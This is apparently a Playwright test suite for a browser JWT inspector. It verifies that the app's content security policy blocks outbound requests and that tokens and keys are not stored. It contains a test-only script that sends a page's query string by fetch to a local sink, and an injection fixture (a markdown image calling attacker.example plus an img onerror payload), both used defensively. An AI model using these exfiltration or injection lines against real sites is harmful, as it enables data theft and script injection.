import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { serve } from '../scripts/serve.mjs';
import { expect, ready, test } from './support/app.ts';
import {
  arm,
  insideAttempts,
  pageAttempts,
  targetOf,
  tryFromInside,
  tryInPage,
  tryInWorker,
  workerAttempts,
} from './support/attempts.ts';
import { openSink, type Sink } from './support/sink.ts';

const dist = fileURLToPath(new URL('../dist', import.meta.url));

/** How many ms a request may take to reach the sink. */
const grace = 2_000;

/**
 * Returns a script on the page's own host. Even this script must not start as a worker, because the
 * page's policy would not apply there.
 */
const hostileScript = (sink: Sink): string => `fetch('http://${sink.host}/hit/' + location.search.slice(1));`;

type Site = { readonly url: string; readonly sink: Sink; close(): Promise<void> };

/**
 * Serves the build, a page without a policy and a hostile script on one host, and a sink on
 * another.
 */
async function openSite(): Promise<Site> {
  const folder = await mkdtemp(join(tmpdir(), 'jotscope-'));
  const sink = await openSink();
  await cp(dist, folder, { recursive: true });
  await writeFile(join(folder, 'hostile.js'), hostileScript(sink));
  await writeFile(
    join(folder, 'plain.html'),
    '<!doctype html><html lang="en"><title>No policy</title><body></body></html>',
  );
  const server = await serve({ root: folder });
  const close = async (): Promise<void> => {
    await Promise.all([server.close(), sink.close()]);
    await rm(folder, { recursive: true });
  };
  return { url: server.url, sink, close };
}

const it = test.extend<{ site: Site }>({
  site: async ({}, use) => {
    const site = await openSite();
    await use(site);
    await site.close();
  },
});

async function openArmed(page: Page, url: string): Promise<void> {
  await arm(page);
  await page.goto(url);
  if (!url.endsWith('plain.html')) await ready(page);
}

it('reaches other hosts in every one of these ways if no policy forbids it (so the sink does count)', async ({
  page,
  site,
  browserName,
}) => {
  const target = targetOf(site.sink, `${site.url}hostile.js`);
  await openArmed(page, `${site.url}plain.html`);
  await tryInPage(page, target);
  expect(await tryInWorker(page, target)).toBe('tried');
  // Firefox decides by itself whether to prefetch, and contacts no STUN server under remote
  // control.
  const firefoxOmits = ['prefetch', 'udp'];
  const everything = [...pageAttempts, ...workerAttempts.map((name) => `worker/${name}`), 'udp'];
  const all = browserName === 'firefox' ? everything.filter((name) => !firefoxOmits.includes(name)) : everything;
  await expect.poll(() => all.filter((name) => !site.sink.hits.has(name))).toEqual([]);
});

it('reaches no other host in any of these ways from inside the page', async ({ page, site }) => {
  await openArmed(page, site.url);
  await tryInPage(page, targetOf(site.sink, `${site.url}hostile.js`));
  await page.waitForTimeout(grace);
  expect([...site.sink.hits]).toEqual([]);
  await fetch(`http://${site.sink.host}/hit/control`);
  expect([...site.sink.hits]).toEqual(['control']);
});

it('is open to hostile code of its own build only by the two ways that the note names', async ({
  page,
  site,
  browserName,
}) => {
  const target = targetOf(site.sink, `${site.url}hostile.js`);
  const named: readonly string[] = insideAttempts.map((name) => (name === 'frame-webrtc' ? 'udp' : name));
  await openArmed(page, site.url);
  await tryFromInside(page, target);
  await page.waitForTimeout(grace);
  expect([...site.sink.hits].filter((name) => !named.includes(name))).toEqual([]);
  expect([...site.sink.hits]).toContain('window-fetch');
  await openArmed(page, `${site.url}plain.html`);
  await tryFromInside(page, target);
  // Firefox asks no STUN server in its remote-driven form.
  if (browserName !== 'firefox') await expect.poll(() => site.sink.hits.has('udp')).toBe(true);
});

it('reaches no other host from inside a worker of the page', async ({ page, site }) => {
  await openArmed(page, site.url);
  expect(await tryInWorker(page, targetOf(site.sink, `${site.url}hostile.js`))).toBe('tried');
  await page.waitForTimeout(grace);
  expect([...site.sink.hits]).toEqual([]);
});

it('has no access to WebRTC, which no policy can forbid', async ({ page }) => {
  await page.goto('./');
  await ready(page);
  expect(
    await page.evaluate(() => ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in window)),
  ).toEqual([]);
});

it('cannot connect to its own host either', async ({ page }) => {
  await page.goto('./');
  await ready(page);
  const answer = await page.evaluate(() =>
    fetch('./index.html').then(
      () => 'answered',
      () => 'refused',
    ),
  );
  expect(answer).toBe('refused');
});

it('starts no worker from a plain string', async ({ page }) => {
  await page.goto('./');
  await ready(page);
  const answer = await page.evaluate(() => {
    try {
      new Worker(URL.createObjectURL(new Blob([''])));
      return 'started';
    } catch (error) {
      return error instanceof Error ? error.name : 'thrown';
    }
  });
  expect(answer).toBe('TypeError');
});

const token =
  'eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk';

test('stores only settings and no cookies after a session', async ({ app, context }) => {
  await app.open();
  await app.paste('Encoded token', token);
  await app.paste('Key', 'a-secret-that-nobody-else-has-00');
  await app.editor('Payload').press('ControlOrMeta+End');
  await app.type('Payload', ' ');
  const kept = await app.page.evaluate(async () => ({
    device: Object.keys(localStorage).filter((name) => name !== 'jotscope.settings'),
    tab: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    settings: localStorage.getItem('jotscope.settings') ?? '',
  }));
  expect(kept).toMatchObject({ device: [], tab: [], databases: [], caches: [] });
  expect(kept.settings).not.toContain('a-secret-that-nobody-else-has-00');
  expect(kept.settings).not.toContain('eyJ');
  expect(await context.cookies()).toEqual([]);
});

test('shows markup in a token as plain text', async ({ app }) => {
  const alg = '![x](https://attacker.example/p.png)<img src=x onerror=alert(1)>';
  const header = Buffer.from(JSON.stringify({ alg })).toString('base64url');
  await app.open(`#token=${header}.e30.AA`);
  expect(await app.textOf('Header')).toContain(alg);
  expect(await app.page.locator('img').count()).toBe(0);
});

test('every text box asks the helpers of the browser to leave its text alone, the rich ones as well', async ({
  app,
}) => {
  await app.open();
  await app.richEditors();
  for (const name of ['Encoded token', 'Header', 'Payload', 'Signature', 'Key'] as const) {
    await expect(app.editor(name)).toHaveAttribute('translate', 'no');
    await expect(app.editor(name)).toHaveAttribute('writingsuggestions', 'false');
    await expect(app.editor(name)).toHaveAttribute('data-gramm', 'false');
    await expect(app.editor(name)).toHaveAttribute('spellcheck', 'false');
  }
});

test('nothing of a token or key stays in a rich editor after Clear', async ({ app }) => {
  const inputs = (): Promise<readonly string[]> =>
    app.page.evaluate(() => [...document.querySelectorAll('textarea')].map((box) => box.value));
  await app.open();
  await app.richEditors();
  await expect.poll(async () => (await inputs()).join('\n')).toContain('PRIVATE KEY');
  await app.paste('Payload', '{"sub":"ada-lovelace-1815"}');
  expect((await inputs()).join('\n')).toContain('ada-lovelace');
  await app.page.getByRole('button', { name: 'Clear', exact: true }).click();
  await expect(app.verdict('Structure')).toHaveAttribute('data-verdict', 'empty');
  expect((await inputs()).filter((text) => text !== '')).toEqual([]);
  // The right column follows after the next picture.
  await expect.poll(() => app.page.content()).not.toContain('ada-lovelace');
});
